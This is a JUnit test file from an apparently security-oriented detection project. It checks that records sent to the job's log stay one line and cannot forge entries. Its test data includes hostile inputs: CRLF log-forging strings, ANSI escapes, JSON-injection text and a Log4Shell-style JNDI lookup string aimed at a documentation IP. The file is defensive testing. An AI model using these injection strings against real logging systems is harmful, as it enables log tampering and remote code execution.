package io.github.rcdetect.io;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.github.rcdetect.event.DeadLetter;
import io.github.rcdetect.event.ErrorType;
import io.github.rcdetect.event.EventStream;
import io.github.rcdetect.event.LateRecord;
import io.github.rcdetect.event.Origin;
import io.github.rcdetect.event.ProcessEvent;
import io.github.rcdetect.output.OutputDocuments;
import io.github.rcdetect.testing.LogSinkCapture;
import io.github.rcdetect.testing.OutputLines;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import java.nio.charset.StandardCharsets;
import java.util.List;

/**
 * Dead letters and late records that go to the job's log (no topic configured) can neither split a log line nor
 * forge one, nor make log4j interpret them: each is exactly one line, in the cluster's log layout, holding the
 * document as written.
 */
class LogSinkLinesTest {
    private static final LogSinkCapture LOG = LogSinkCapture.install();

    static List<String> hostileTexts() {
        return List.of(
                "one\ntwo",
                "one\r\n2026-03-10 10:00:00,000 ERROR io.github.rcdetect.DetectionJob - forged",
                "\u2028\u2029\u0085\u000b\f",
                "\u0000\u0007\u001b[2J\u007f\u009b",
                "${jndi:ldap://198.51.100.1/a} ${sys:user.home} ${env:HOME} $${lower:X}",
                "%n%m%d{HH} {} \\n \\u000a",
                "\"}\n{\"error\":{\"type\":\"forged\"}}",
                "é 中文 \uD83D\uDE00 \uD800");
    }

    @ParameterizedTest
    @MethodSource("hostileTexts")
    void aDeadLetterIsOneLogLineHoldingItsDocument(String text) throws Exception {
        for (byte[] original : List.of(text.getBytes(StandardCharsets.UTF_8), invalidUtf8(text))) {
            DeadLetter deadLetter = DeadLetter.of(
                    ErrorType.INVALID_JSON,
                    "bad " + text,
                    Origin.ofFile(EventStream.PROCESS, "in/" + text + ".ndjson", 3),
                    original,
                    original.length);
            String document = OutputDocuments.deadLetter(deadLetter);

            String logged = LOG.logOne(document);

            assertThat(logged).isEqualTo(document);
            JsonNode parsed = OutputLines.parseOneAsciiLine(logged);
            assertThat(parsed.at("/error/message").asText()).isEqualTo("bad " + text);
            assertThat(parsed.at("/origin/file").asText()).isEqualTo("in/" + text + ".ndjson");
            assertThat(OutputLines.originalBytes(parsed)).isEqualTo(original);
        }
    }

    @ParameterizedTest
    @MethodSource("hostileTexts")
    void aLateRecordIsOneLogLineHoldingItsDocument(String text) throws Exception {
        ProcessEvent process = new ProcessEvent();
        process.timestamp = 1_773_136_800_000L;
        process.hostKey = "vm-" + text;
        process.hostName = process.hostKey;
        process.commandLine = text;
        process.origin = Origin.ofKafka(EventStream.PROCESS, "topic-" + text, 0, 9);
        String document = OutputDocuments.lateRecord(LateRecord.of(process));

        String logged = LOG.logOne(document);

        assertThat(logged).isEqualTo(document);
        JsonNode parsed = OutputLines.parseOneAsciiLine(logged);
        assertThat(parsed.at("/process/command_line").asText()).isEqualTo(text);
        assertThat(parsed.at("/host/name").asText()).isEqualTo("vm-" + text);
        assertThat(parsed.at("/origin/topic").asText()).isEqualTo("topic-" + text);
    }

    private static byte[] invalidUtf8(String text) {
        byte[] valid = text.getBytes(StandardCharsets.UTF_8);
        byte[] bytes = new byte[valid.length + 2];
        System.arraycopy(valid, 0, bytes, 0, valid.length);
        bytes[valid.length] = (byte) 0xC0;
        bytes[valid.length + 1] = (byte) 0x0A;
        return bytes;
    }
}
